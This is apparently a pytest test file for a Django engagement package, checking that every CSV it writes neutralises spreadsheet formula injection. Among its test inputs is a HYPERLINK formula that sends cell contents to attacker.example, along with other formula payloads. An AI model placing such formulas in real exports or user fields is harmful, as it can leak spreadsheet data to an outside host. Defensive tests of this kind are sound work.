"""CSV formula neutralisation (CSV_ESCAPE_FORMULAS) in every CSV the package writes:
the helper itself, reports/export/, the admin CSV action and engagement_report --format csv."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.urls import reverse

from django_engagement import record_event
from django_engagement.models import get_event_model, get_feed_model
from django_engagement.services.csv_writer import FORMULA_PREFIXES, csv_writer, escape_formula
from tests.test_engagement_report import run
from tests.testapp.models import Campaign, Club

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("no_tracking")]

HOSTILE = [HYPERLINK, "+1+2", "-1+2", "@SUM(A1)", "\tcmd", "\r=1"]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def written(row, **kwargs) -> list[str]:
    out = io.StringIO()
    csv_writer(out, **kwargs).writerow(row)
    return rows_of(out.getvalue())[0]


# -- the helper ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_with_a_formula_character_gets_a_quote(value):
    assert escape_formula(value) == "'" + value
    assert written([value], escape_formulas=True) == ["'" + value]
    assert written([value], escape_formulas=False) == [value]


def test_prefixes_are_the_owasp_list():
    assert FORMULA_PREFIXES == ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", ["anon-1", "a=b", " =1", "'=1", "", "ü@x", "2024-03-01"])
def test_other_text_is_unchanged(value):
    assert escape_formula(value) == value


@pytest.mark.parametrize("value", [-5, -0.25, Decimal("-1.50"), None, True])
def test_numbers_the_package_writes_are_data_not_formulas(value):
    assert escape_formula(value) is value
    assert written([value, "-5"], escape_formulas=True) == [
        "" if value is None else str(value),
        "'-5",
    ]


def test_writerows_escapes_every_row_and_the_default_follows_the_setting(engagement_settings):
    out = io.StringIO()
    csv_writer(out).writerows([["=1", 2], ["ok", "@x"]])
    assert rows_of(out.getvalue()) == [["'=1", "2"], ["ok", "'@x"]]

    engagement_settings.update(CSV_ESCAPE_FORMULAS=False)
    out = io.StringIO()
    csv_writer(out).writerows([["=1", 2]])
    assert rows_of(out.getvalue()) == [["=1", "2"]]


# -- reports/export/ -------------------------------------------------------------------------


@pytest.fixture
def hostile_events(api_client):
    """One event per hostile anonymous_id: sent by clients in the body or the
    X-Client-ANON-ID header (both strip whitespace, so tab and CR prefixes come from
    ``record_event``, as a host's server code could pass them)."""
    ingest = reverse("django_engagement:engagement-events")
    from_clients = [value for value in HOSTILE if not value[0].isspace()]
    for value in from_clients:
        response = api_client.post(
            ingest, {"event_type": "page_view", "anonymous_id": value}, format="json"
        )
        assert response.status_code == 201, response.content
    response = api_client.post(
        ingest, {"event_type": "page_view"}, format="json", HTTP_X_CLIENT_ANON_ID="-2+3"
    )
    assert response.status_code == 201, response.content
    from_server = [value for value in HOSTILE if value[0].isspace()]
    for value in from_server:
        record_event("page_view", anonymous_id=value)
    return [*from_clients, "-2+3", *from_server]


def export_anonymous_ids(client) -> list[str]:
    response = client.get(reverse("django_engagement:engagement-reports-export"))
    assert response.status_code == 200
    rows = rows_of(b"".join(response.streaming_content).decode())
    column = rows[0].index("anonymous_id")
    return sorted(row[column] for row in rows[1:])


def test_export_endpoint_neutralises_client_anonymous_ids(admin_client_api, hostile_events):
    assert export_anonymous_ids(admin_client_api) == sorted("'" + v for v in hostile_events)


def test_export_endpoint_writes_raw_cells_with_the_setting_off(
    admin_client_api, hostile_events, engagement_settings
):
    engagement_settings.update(CSV_ESCAPE_FORMULAS=False)
    assert export_anonymous_ids(admin_client_api) == sorted(hostile_events)


# -- the admin CSV action --------------------------------------------------------------------


def admin_export(client) -> list[list[str]]:
    Event = get_event_model()
    opts = Event._meta
    pks = list(Event._default_manager.order_by("pk").values_list("pk", flat=True))
    response = client.post(
        reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist"),
        {"action": "export_csv", admin.helpers.ACTION_CHECKBOX_NAME: pks},
    )
    assert response.status_code == 200
    return rows_of(b"".join(response.streaming_content).decode())


@pytest.fixture
def superuser_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("root", "r@example.com", "pw"))
    return client


def test_admin_csv_action_neutralises_anonymous_ids(superuser_client, hostile_events):
    rows = admin_export(superuser_client)
    assert sorted(row[4] for row in rows[1:]) == sorted("'" + v for v in hostile_events)
    assert rows[0][4] == "anonymous_id"


def test_admin_csv_action_raw_with_the_setting_off(
    superuser_client, hostile_events, engagement_settings
):
    engagement_settings.update(CSV_ESCAPE_FORMULAS=False)
    rows = admin_export(superuser_client)
    assert sorted(row[4] for row in rows[1:]) == sorted(hostile_events)


# -- engagement_report --format csv ----------------------------------------------------------

MOMENT = datetime(2024, 3, 5, 12, tzinfo=UTC)


@pytest.fixture
def hostile_report_data():
    """A user whose username and email start with formula characters, with a feed item,
    and a campaign and club named like formulas, joined in the period."""
    User = get_user_model()
    user = User._default_manager.create(username="-1+2", email="+1@example.com", date_joined=MOMENT)
    club = Club.objects.create(name="@SUM(A1)")
    campaign = Campaign.objects.create(name=HYPERLINK, club=club)
    campaign.members.add(user)
    get_feed_model()._default_manager.create(
        user=user, activity_type="event", title="=1", created_at=MOMENT
    )
    get_event_model()._default_manager.create(
        event_type="target_joined", user=user, target=campaign, created_at=MOMENT
    )
    return user, campaign


def report_csv(tmp_path, name: str) -> list[list[str]]:
    run("--start", "2024-03-01", "--end", "2024-03-14", "--format", "csv",
        "--output-dir", str(tmp_path), verbosity=0)  # fmt: skip
    with (tmp_path / name).open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_report_csv_neutralises_usernames_emails_and_target_names(hostile_report_data, tmp_path):
    user, campaign = hostile_report_data
    assert report_csv(tmp_path, "user_activity.csv") == [
        ["user_id", "username", "email", "total_items", "type_event"],
        [str(user.pk), "'-1+2", "'+1@example.com", "1", "1"],
    ]
    with (tmp_path / "campaigns.csv").open(newline="", encoding="utf-8") as handle:
        assert list(csv.reader(handle))[1] == [
            str(campaign.pk), "'" + HYPERLINK, "'@SUM(A1)", "1", "1", "0"
        ]  # fmt: skip


def test_report_csv_raw_with_the_setting_off(hostile_report_data, tmp_path, engagement_settings):
    engagement_settings.update(CSV_ESCAPE_FORMULAS=False)
    user, campaign = hostile_report_data
    assert report_csv(tmp_path, "user_activity.csv")[1] == [
        str(user.pk), "-1+2", "+1@example.com", "1", "1"
    ]  # fmt: skip
    assert report_csv(tmp_path / "again", "campaigns.csv")[1] == [
        str(campaign.pk), HYPERLINK, "@SUM(A1)", "1", "1", "0"
    ]  # fmt: skip
